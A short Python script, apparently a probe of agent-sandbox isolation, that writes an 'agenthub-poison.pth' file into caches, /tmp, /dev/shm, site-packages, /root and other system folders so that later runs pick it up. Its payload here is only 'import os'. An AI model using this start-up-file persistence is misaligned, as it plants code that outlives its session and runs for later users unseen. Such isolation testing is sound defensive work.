"""Leaves things where the next run would pick them up: caches, start-up files, shared folders."""

import os
import site
from pathlib import Path

places = [".cache/inductor", "/tmp/torchinductor_sandbox", "/dev/shm", site.getsitepackages()[0]]
places += ["/var/tmp", os.path.expanduser("~/.config"), "/root", "/usr/local/lib"]
for place in places:
    try:
        Path(place).mkdir(parents=True, exist_ok=True)
        (Path(place) / "agenthub-poison.pth").write_text("import os")
    except OSError:
        continue
